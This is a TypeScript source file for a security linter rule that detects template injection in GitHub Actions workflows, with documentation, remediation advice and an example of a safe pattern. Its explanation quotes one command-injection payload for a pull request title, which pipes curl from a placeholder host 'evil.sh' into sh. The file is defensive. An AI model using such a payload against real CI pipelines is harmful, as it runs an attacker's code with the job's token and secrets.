import { defineFileRule } from "../../../rule.ts";
import { isBooleanExpression, references, untrustedField } from "../expressions.ts";
import { allSteps, usesAction, type WorkflowModel, withValue, type YamlScalar } from "../model.ts";

export const templateInjection = defineFileRule<WorkflowModel>({
  id: "ci/template-injection",
  analyzer: "ci",
  title: "Attacker-controlled expression expanded into a script",
  severity: "critical",
  confidence: "high",
  lifecycle: "stable",
  cwe: [94, 78],
  controls: ["CI-INJ-01"],
  docs: {
    summary:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      "A `run:` script or an `actions/github-script` `script:` contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names.",
    whyItMatters:
      "GitHub pastes the expression into the script before the shell runs it. A pull request titled `\"; curl evil.sh | sh; #` runs the attacker's commands with the job's token and secrets.",
    remediation:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script. Expressions that only produce a boolean (`contains(…)`, `==`) and fields that cannot be present for the workflow\'s triggers are not flagged.',
    example:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      '- name: Greet\n  env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "New issue: $TITLE"',
    references: [
      "https://docs.zizmor.sh/audits/#template-injection",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
  },
  check(ctx) {
    const inspect = (script: YamlScalar, where: string) => {
      for (const expression of script.expressions) {
        if (isBooleanExpression(expression.text)) continue;
        const field = references(expression.text)
          .map((reference) => untrustedField(reference, ctx.model))
          .find((found) => found !== null);
        if (!field) continue;
        ctx.report({
          message: `${field} is expanded into ${where}; pass it through env instead`,
          at: { line: expression.line, column: expression.column },
        });
      }
    };
    for (const { step } of allSteps(ctx.model)) {
      if (step.run) inspect(step.run, "a run script");
      if (usesAction(step, "actions/github-script")) {
        const script = withValue(step, "script");
        if (script) inspect(script, "a github-script script");
      }
    }
  },
});
